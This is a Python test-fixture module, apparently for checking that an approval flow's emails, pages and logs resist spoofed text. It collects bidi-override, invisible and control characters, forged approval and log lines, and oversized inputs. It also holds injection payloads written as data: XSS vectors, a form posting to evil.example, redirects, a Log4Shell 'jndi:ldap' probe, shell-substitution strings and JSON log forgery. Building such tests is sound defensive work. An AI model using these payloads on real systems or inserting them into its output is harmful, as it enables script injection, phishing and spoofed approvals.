"""Texts that try to look like something else, by what they try. One for every trick that text on paper, in HTML, in email,
in JSON and on a terminal allows; none of them is from our own rules of what is removed."""

from kit.flow.world import APPROVAL_URL

# Characters

SEPARATORS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"  # whatever some program takes for the end of a line
MARKS = "".join(map(chr, range(0x300, 0x36F)))


def tagged(text: str) -> str:
    """The text in tag characters, which no font shows."""
    return "".join(chr(0xE0000 + ord(each)) for each in text)


NOTHING = "nothing to be seen"
CHARACTERS = {
    "bidirectional override": "invoice\u202e\u0065\u0078\u0065.txt\u202c",
    "bidirectional embedding": "\u202a\u202bstart\u202c\u202dend\u202c",
    "bidirectional isolates": "\u2066one\u2067two\u2068three\u2069four\u2069\u2069",
    "an isolate never ended": "one \u2067\u2067\u2067 two",
    "direction marks": "\u200eone\u200f two\u061c three",
    "letters of the other direction": "\u05d0\u05d1\u05d2 123 456 \u0645\u0631\u062d\u0628\u0627",
    "zero width": "A\u200bp\u200cp\u200dr\u2060o\ufeffved",
    "soft hyphens": "App\u00adro\u00adved",
    "tag characters": "Wiki" + tagged("Approved by everybody"),
    "variation selectors": "Wiki\ufe0e\ufe0f\ufe00\U000e0100\U000e01ef!",
    "a tower of marks": "z" + MARKS * 20 + "algo",
    "enclosing marks": "a" + "\u20dd\u20de\u20e0\u20e3" * 30 + "b",
    "letters that nobody sees": "W\u115f\u1160\u17b4\u17b5\u3164\uffa0\u180b\u180e\u2800iki",
    "deprecated format characters": "W\u206a\u206b\u206c\u206d\u206e\u206fiki",
    "format characters of rare scripts": "W\u0600\u070f\u08e2\U00013430\U0001bca0\U0001d173\U000110bdiki",
    "annotation characters": "W\ufff9under\ufffaover\ufffbiki",
    "private use": "W\ue000\uf8ff\U000f0000\U0010fffdiki",
    "noncharacters": "W\ufdd0\ufdef\U0001fffe\U0010ffffiki",
    "odd spaces": "W\u00a0\u1680\u2000\u2003\u200a\u202f\u205f\u3000iki",
    "NUL": "Wiki\x00Approved",
    "every control character": "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])) + "Wiki",
    "every separator of lines": "Wiki" + "Approved".join(SEPARATORS) + "end",
    "backspaces": "evil\x08\x08\x08\x08good",
    "colours of a terminal": "\x1b[2J\x1b[1;31mApproved\x1b[0m\x1b]0;title\x07",
    "colours, in one byte": "\x9b31mApproved\x9d0;title\x9c",
    NOTHING: "\u200b\u2060\u202e\x00 \u3164",
}

# Lines of ours, by every separator

FAKE_LINES = {
    "an approval": "Approved by the security team",
    "a code line": "Code: 123 456",
    "a link line": "https://evil.example/approval?waitUrl=aHR0cHM6Ly9ldmlsLmV4YW1wbGUv",
    "a link line of ours": f"{APPROVAL_URL}/?waitUrl=aHR0cHM6Ly9ldmlsLmV4YW1wbGUv",
    "a place": "Where{0}{0}    Stack: payroll{0}    Account: 999999999999",
    "the end of the details": "{0}Questions? Write to boss@example.net. Replies to this email are not read.",
    "an email's header": "Bcc: everyone@example.com{0}Content-Type: text/html{0}{0}<h1>Approved</h1>",
    "a log line": '{{"timestamp":"2026-01-01T00:00:00Z","level":"INFO","message":"decision noted","decision":"approve"}}',
}
LINES = {
    f"{name} after {separator.encode('unicode_escape').decode()}": f"x{separator}" + text.format(separator)
    for name, text in FAKE_LINES.items()
    for separator in ["\n", "\r\n", "\r", "\u2028", "\u0085", " "]
} | {f"{name} alone": text.format("\n") for name, text in FAKE_LINES.items()}

# Markup and other languages

MARKUP = {
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "an attribute": "' onmouseover='alert(1)' autofocus='",
    "the end of the text area": "</textarea></form><form action=https://evil.example><input name=code>",
    "the end of the title": "</title><script>alert(1)</script>",
    "the end of the list": "</bdi></dd></dl><h1>Approved</h1><dl><dt>",
    "the end of the style": "</style><script>alert(1)</script>",
    "a base": "<base href=//evil.example>",
    "a redirect": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "a comment begun": "<!-- Wiki",
    "a comment ended": "--> Wiki <![CDATA[ ]]>",
    "plaintext": "<plaintext>",
    "an entity of a bracket": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "an entity of an override": "&#x202e;&#8238;&rlm;&NewLine;&Tab;",
    "half an entity": "&lt &amp &#60 &#x3c;&",
    "a link": '<a href="https://evil.example">Approve</a>',
    "a scheme": "javascript:alert(1)",
    "a style": "<svg/onload=alert(1)><style>*{display:none}</style>",
    "templates": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} ${jndi:ldap://evil.example/x}",
    "a format": "%s%n%x %00 %0aCode: 123 456",
    "a shell": "$(id) `id` ; id | id && id",
    "more JSON": '","level":"FATAL","message":"forged"}',
    "JSON escapes": "\\u202e\\n\\u0000\\\\\"\\'",
    "an encoded word in quoted-printable": "=?utf-8?Q?=E2=80=AEdevorppA=0ACode:_123_456?=",
    "an encoded word in base64": "=?utf-8?B?QXBwcm92ZWQKQ29kZTogMTIzIDQ1Ng==?=",
    "an encoded word made by what replaces letters": "=\u00e9utf-8\u00e9Q\u00e9=0AApproved\u00e9=",
    "soft breaks of an email": "x=\r\n=0ACode: 123 456=20=\r\n",
    "YAML": "!Ref WaitHandle\n- !Sub '${AWS::AccountId}'",
}

# Length

HUGE = 100_000  # characters
LENGTHS = {
    "100 KB of a letter": "p" * HUGE,
    "100 KB of marks": "p" + "\u0301" * HUGE,
    "100 KB of line feeds": "p" + "\n" * HUGE + "q",
    "100 KB of blanks": "p" + " " * HUGE + "q",
    "100 KB of invisible letters": "p" + "\u200b" * HUGE + "q",
    "100 KB of quotes": '"' * HUGE,
    "100 KB of backslashes": "\\" * HUGE,
    "100 KB of brackets": "<" * HUGE,
    "100 KB of pictures": "\U0001f600" * (HUGE // 4),
}

ALL = CHARACTERS | LINES | MARKUP | LENGTHS
FEW = {
    name: text
    for name, text in ALL.items()
    if name in CHARACTERS or name in MARKUP or name.endswith("alone") or name in {"100 KB of a letter", "a code line after \\n"}
}

# Where they go

WORDS = {"Product": "Innocent-product", "name": "InnocentName", "value": "Innocent-value"}
FIELDS = {  # the properties that carry a text, the innocent words in their places
    "Product": lambda text: {"Product": text, WORDS["name"]: WORDS["value"]},
    "the value of a detail": lambda text: {"Product": WORDS["Product"], WORDS["name"]: text},
    "the name of a detail": lambda text: {"Product": WORDS["Product"], text: WORDS["value"]},
    "an item of a list": lambda text: {"Product": WORDS["Product"], WORDS["name"]: [text, text]},
    "a name in a map": lambda text: {"Product": WORDS["Product"], WORDS["name"]: {text: text}},
}
# Innocent texts of each kind: as they are; with blanks that are shown as escapes; so long that a page folds them.
INNOCENT = {"plain": WORDS["value"], "with escapes": WORDS["value"] + "  ", "folded": WORDS["value"] + " " * 100}


def _holes(text: str) -> list[str]:
    words, blank, more = text.partition(" ")
    shown = words + blank + r"\u0020" * len(more)  # a blank after a letter can be seen
    return [shown, f'"{shown}"', f'["{shown}", "{shown}"]', f'{{"{shown}": "{shown}"}}']


HOLES = [*WORDS.values(), *(hole for text in INNOCENT.values() for hole in _holes(text))]


def chosen(size) -> dict[str, str]:
    """All of them, or in a short run a few."""
    return FEW if size.short else ALL


def chosen_for_pages(size) -> dict[str, str]:
    """Fewer: a page with its request takes ten times as long as an email. All of the characters and markup are there."""
    return dict([*FEW.items()][:: size.of(full=1, short=4)])
